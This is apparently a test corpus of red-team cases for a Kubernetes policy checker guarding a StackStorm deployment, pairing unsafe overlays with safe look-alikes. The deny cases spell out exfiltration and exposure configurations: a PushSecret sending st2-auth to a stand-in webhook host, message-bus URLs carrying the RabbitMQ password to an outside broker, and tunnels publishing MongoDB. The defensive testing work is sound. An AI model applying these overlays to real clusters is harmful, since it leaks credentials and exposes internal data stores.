/**
 * The sixth red team (issue 12), its exposure and exfiltration classes: a
 * report-only attacker wrote 120 overlays (/work/red6 at the time, run
 * through dist/st2-gitops against main at 6fdb04b: 29 of 75 unsafe changes
 * allowed, 0 of 45 safe ones denied). Kept here: its seven allowed changes
 * of these classes (a LoadBalancer open through all 256 /8s in production
 * and staging; cloudflared publishing RabbitMQ's management UI and MongoDB
 * through the ingress rules of a mounted config; the Tailscale operator
 * exposing MongoDB; RabbitMQ delegating its logins over plain http:// to an
 * outside host; a PushSecret copying st2-auth to a webhook store; st2's
 * message bus sent to an outside RabbitMQ by the ExternalSecret template),
 * variants written while closing them, and safe look-alikes that must stay
 * allowed (the RFC 1918 trio with office /24s, a site /48, st2web on the
 * tailnet or behind a tunnel, an in-cluster auth service, a PushSecret of a
 * generated password). Closed by the union of source ranges (ST2-EXP-007,
 * src/policy/source-ranges.ts), tunnel configs (ST2-OPS-008), tailnet
 * Services (ST2-EXP-006), ST2-OPS-013 and ST2-OPS-014. Last, cases for three
 * holes the fifth team left open and that were closed at the same time
 * (its own cases are kept in fresh5.ts): an st2web route on a Gateway's
 * plain HTTP listener (ST2-OPS-004), a dev proxy config or ExternalSecret
 * reaching a stricter environment (ST2-OPS-012, the secret store map in the
 * bundle's settings). The cases write no published default.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import YAML from 'yaml';
import type { Patch, RedTeamCase } from './corpus.js';

type Json = Record<string, unknown>;

const allSlash8 = Array.from({ length: 256 }, (_, k) => `${k}.0.0.0/8`);

function lbPatch(service: string, ranges: readonly string[], annotation = false): Patch[] {
  const ops: Json[] = [{ op: 'add', path: '/spec/type', value: 'LoadBalancer' }];
  if (annotation) ops.push({ op: 'add', path: '/metadata/annotations', value: { 'service.beta.kubernetes.io/load-balancer-source-ranges': ranges.join(',') } });
  else ops.push({ op: 'add', path: '/spec/loadBalancerSourceRanges', value: ranges });
  return [{ target: { kind: 'Service', name: service }, ops }];
}

const limits = { limits: { cpu: '200m', memory: '128Mi' }, requests: { cpu: '20m', memory: '64Mi' } };

function agent(name: string, image: string, args: readonly string[], config: string | undefined, command?: readonly string[]): Json[] {
  const mounts = config === undefined ? {} : { volumeMounts: [{ name: 'config', mountPath: '/etc/agent' }] };
  const volumes = config === undefined ? {} : { volumes: [{ name: 'config', configMap: { name: `${name}-config` } }] };
  const deployment = {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name },
    spec: {
      replicas: 1,
      selector: { matchLabels: { app: name } },
      template: {
        metadata: { labels: { app: name } },
        spec: {
          containers: [{ name, image, ...(command ? { command } : {}), args, resources: limits, securityContext: { allowPrivilegeEscalation: false }, ...mounts }],
          ...volumes,
        },
      },
    },
  };
  return config === undefined ? [deployment] : [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: `${name}-config` }, data: { 'config.yaml': config } }, deployment];
}

const cloudflared = (ingress: string): Json[] =>
  agent('cloudflared', 'cloudflare/cloudflared:2024.12.2', ['tunnel', '--config', '/etc/agent/config.yaml', 'run'], `tunnel: st2-prod\ncredentials-file: /etc/cloudflared/creds/credentials.json\ningress:\n${ingress}  - service: http_status:404\n`);

function tailnetService(name: string, selector: Json, annotations: Json): Json {
  return { apiVersion: 'v1', kind: 'Service', metadata: { name, annotations }, spec: { selector, ports: [{ name: 'p', port: 27017, targetPort: 27017 }] } };
}

function store(name: string, provider: Json): Json {
  return { apiVersion: 'external-secrets.io/v1beta1', kind: 'SecretStore', metadata: { name }, spec: { provider } };
}

function pushSecret(selector: Json, storeName: string): Json {
  return {
    apiVersion: 'external-secrets.io/v1alpha1',
    kind: 'PushSecret',
    metadata: { name: 'st2-backup' },
    spec: { refreshInterval: '1h', secretStoreRefs: [{ name: storeName, kind: 'SecretStore' }], selector, data: [{ match: { secretKey: 'password', remoteRef: { remoteKey: 'st2-admin-password' } } }] },
  };
}

const webhookStore = store('backup-store', { webhook: { url: 'https://backup.example.net/store/{{ .remoteRef.remoteKey }}', method: 'POST', body: '{{ .remoteRef.value }}', result: { jsonPath: '$.ok' } } });

/** base/rabbitmq.yaml's rabbitmq.conf, with lines appended. */
function rabbitmqConf(root: string, extra: string): Patch[] {
  const docs = YAML.parseAllDocuments(readFileSync(path.join(root, 'base/rabbitmq.yaml'), 'utf8')).map((d) => d.toJSON() as Json);
  const config = docs.find((d) => d['kind'] === 'ConfigMap' && (d['metadata'] as Json)['name'] === 'rabbitmq-config');
  const conf = ((config?.['data'] ?? {}) as Json)['rabbitmq.conf'];
  if (typeof conf !== 'string' || conf === '') throw new Error('base/rabbitmq.yaml has no rabbitmq.conf');
  return [
    {
      target: { kind: 'ConfigMap', name: 'rabbitmq-config' },
      ops: [
        { op: 'replace', path: '/data/enabled_plugins', value: '[rabbitmq_management,rabbitmq_auth_backend_http].\n' },
        { op: 'replace', path: '/data/rabbitmq.conf', value: `${conf}auth_backends.1 = http\nauth_http.http_method = post\n${extra}` },
      ],
    },
  ];
}

const secretsTemplate = (messaging: string): Patch[] => [
  {
    target: { kind: 'ExternalSecret', name: 'st2-config-secrets' },
    ops: [{ op: 'replace', path: '/spec/target/template/data/st2.secrets.conf', value: `[messaging]\nurl = ${messaging}\n\n[database]\nusername = {{ .mongodbUser }}\npassword = {{ .mongodbPassword }}\n` }],
  },
];

export function fresh6ExposureCorpus(root: string): RedTeamCase[] {
  const authPaths = (base: string): string => ['user', 'vhost', 'resource', 'topic'].map((p) => `auth_http.${p}_path = ${base}/${p}\n`).join('');
  return [
    // --- LoadBalancer source ranges as a whole ---
    { id: 'f6-exp-lb-all-slash8', cls: 'exposure', wraps: 'prod', expect: 'deny', rule: 'ST2-EXP-007', patches: lbPatch('st2web', allSlash8) },
    { id: 'f6-exp-lb-all-slash8-api-staging', cls: 'exposure', wraps: 'staging', expect: 'deny', rule: 'ST2-EXP-007', patches: lbPatch('st2api', allSlash8) },
    { id: 'f6-exp-lb-all-slash8-annotation', cls: 'exposure', wraps: 'prod', expect: 'deny', rule: 'ST2-EXP-007', patches: lbPatch('st2auth', allSlash8, true) },
    {
      id: 'f6-exp-lb-v6-slash40s',
      cls: 'exposure',
      wraps: 'prod',
      expect: 'deny',
      rule: 'ST2-EXP-007',
      patches: lbPatch('st2web', ['10.0.0.0/8', ...Array.from({ length: 256 }, (_, k) => `2a01:4f8:${k.toString(16).padStart(2, '0')}00::/40`)]),
    },
    { id: 'f6-safe-exp-lb-rfc1918-offices', cls: 'exposure', wraps: 'prod', expect: 'allow', patches: lbPatch('st2web', ['10.0.0.0/8', '172.16.0.0/12', '192.168.0.0/16', '81.2.69.0/24', '81.2.70.0/24']) },
    { id: 'f6-safe-exp-lb-site-48', cls: 'exposure', wraps: 'prod', expect: 'allow', patches: lbPatch('st2api', ['10.0.0.0/8', '2a01:4f8:1234::/48', 'fd12:3456:789a::/48']) },
    // --- Tunnels and the tailnet ---
    { id: 'f6-exp-cloudflared-rmq-mgmt', cls: 'exposure', wraps: 'prod', expect: 'deny', rule: 'ST2-OPS-008', resources: cloudflared('  - hostname: rmq.st2.example.com\n    service: http://rabbitmq:15672\n  - hostname: db.st2.example.com\n    service: tcp://mongodb:27017\n') },
    { id: 'f6-exp-tailscale-mongo', cls: 'exposure', wraps: 'prod', expect: 'deny', rule: 'ST2-EXP-006', resources: [tailnetService('mongodb-tailnet', { app: 'mongodb', release: 'st2' }, { 'tailscale.com/expose': 'true', 'tailscale.com/hostname': 'st2-mongodb' })] },
    { id: 'f6-exp-tailscale-funnel-rmq', cls: 'exposure', wraps: 'prod', expect: 'deny', rule: 'ST2-OPS-008', resources: agent('ts-funnel', 'tailscale/tailscale:v1.78.1', ['funnel', '--bg', 'http://rabbitmq:15672'], undefined, ['tailscale']) },
    { id: 'f6-safe-exp-tailscale-st2web', cls: 'exposure', wraps: 'prod', expect: 'allow', patches: [{ target: { kind: 'Service', name: 'st2web' }, ops: [{ op: 'add', path: '/metadata/annotations/tailscale.com~1expose', value: 'true' }] }] },
    { id: 'f6-safe-exp-cloudflared-st2web', cls: 'exposure', wraps: 'prod', expect: 'allow', resources: cloudflared('  - hostname: st2.example.com\n    service: http://st2web:80\n') },
    // --- Credentials and data leaving the cluster ---
    { id: 'f6-store-rmq-auth-http-outside', cls: 'store-auth', wraps: 'prod', expect: 'deny', rule: 'ST2-OPS-013', patches: rabbitmqConf(root, authPaths('http://authz.example.net/rmq')) },
    { id: 'f6-safe-store-rmq-auth-http-in-cluster', cls: 'store-auth', wraps: 'prod', expect: 'allow', patches: rabbitmqConf(root, authPaths('http://rmq-authz.st2-prod.svc:8000/rmq')) },
    { id: 'f6-exfil-messaging-outside', cls: 'exposure', wraps: 'prod', expect: 'deny', rule: 'ST2-OPS-013', patches: secretsTemplate('amqp://admin:{{ .rabbitmqPassword | urlquery }}@mq.example.net:5672') },
    { id: 'f6-exfil-messaging-outside-tls-staging', cls: 'exposure', wraps: 'staging', expect: 'deny', rule: 'ST2-OPS-013', patches: secretsTemplate('amqps://admin:{{ .rabbitmqPassword | urlquery }}@mq.example.net:5671') },
    { id: 'f6-safe-messaging-cluster-fqdn', cls: 'exposure', wraps: 'prod', expect: 'allow', patches: secretsTemplate('amqp://admin:{{ .rabbitmqPassword | urlquery }}@rabbitmq.st2-prod.svc.cluster.local:5672') },
    { id: 'f6-priv-pushsecret-exfil', cls: 'access', wraps: 'prod', expect: 'deny', rule: 'ST2-OPS-014', resources: [webhookStore, pushSecret({ secret: { name: 'st2-auth' } }, 'backup-store')] },
    { id: 'f6-priv-pushsecret-by-labels', cls: 'access', wraps: 'staging', expect: 'deny', rule: 'ST2-OPS-014', resources: [webhookStore, pushSecret({ secret: { selector: { matchLabels: { release: 'st2' } } } }, 'backup-store')] },
    {
      id: 'f6-safe-pushsecret-generated',
      cls: 'access',
      wraps: 'prod',
      expect: 'allow',
      resources: [webhookStore, { apiVersion: 'generators.external-secrets.io/v1alpha1', kind: 'Password', metadata: { name: 'webhook-token' }, spec: { length: 32 } }, pushSecret({ generatorRef: { apiVersion: 'generators.external-secrets.io/v1alpha1', kind: 'Password', name: 'webhook-token' } }, 'backup-store')],
    },
    { id: 'f6-safe-pushsecret-other-app', cls: 'access', wraps: 'prod', expect: 'allow', resources: [webhookStore, pushSecret({ secret: { name: 'grafana-admin' } }, 'backup-store')] },
    // --- Closed from the fifth team's open list at the same time: Gateway listeners, proxy configs and secret stores ---
    { id: 'f6-exp-gateway-both-listeners', cls: 'exposure', wraps: 'prod', expect: 'deny', rule: 'ST2-OPS-004', resources: [gateway(), httpRoute('st2web', undefined, [{ backendRefs: [{ name: 'st2web', port: 80 }] }])] },
    {
      id: 'f6-safe-gateway-https-and-redirect',
      cls: 'exposure',
      wraps: 'prod',
      expect: 'allow',
      resources: [
        gateway(),
        httpRoute('st2web', 'https', [{ backendRefs: [{ name: 'st2web', port: 80 }] }]),
        httpRoute('st2web-redirect', 'http', [{ filters: [{ type: 'RequestRedirect', requestRedirect: { scheme: 'https', statusCode: 301 } }] }]),
      ],
    },
    {
      id: 'f6-safe-dev-nginx-own-namespace',
      cls: 'exposure',
      wraps: 'dev',
      expect: 'allow',
      resources: agent('db-proxy', 'nginx:1.27.3', [], 'events {}\nstream {\n  server {\n    listen 27017;\n    proxy_pass mongodb-0.mongodb.st2-dev.svc.cluster.local:27017;\n  }\n}\n'),
    },
    {
      id: 'f6-env-dev-reads-staging-store',
      cls: 'environment',
      wraps: 'dev',
      expect: 'deny',
      rule: 'ST2-OPS-012',
      resources: [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: { name: 'ldap-bind' }, spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-staging' }, target: { name: 'ldap-bind' }, data: [{ secretKey: 'password', remoteRef: { key: 'stackstorm/ldap', property: 'password' } }] } }],
    },
  ];
}

function gateway(): Json {
  return {
    apiVersion: 'gateway.networking.k8s.io/v1',
    kind: 'Gateway',
    metadata: { name: 'web' },
    spec: {
      gatewayClassName: 'public',
      listeners: [
        { name: 'http', protocol: 'HTTP', port: 80, hostname: 'st2.example.com' },
        { name: 'https', protocol: 'HTTPS', port: 443, hostname: 'st2.example.com', tls: { mode: 'Terminate', certificateRefs: [{ name: 'st2-tls' }] } },
      ],
    },
  };
}

function httpRoute(name: string, section: string | undefined, rules: Json[]): Json {
  return { apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: { name }, spec: { parentRefs: [{ name: 'web', ...(section ? { sectionName: section } : {}) }], hostnames: ['st2.example.com'], rules } };
}
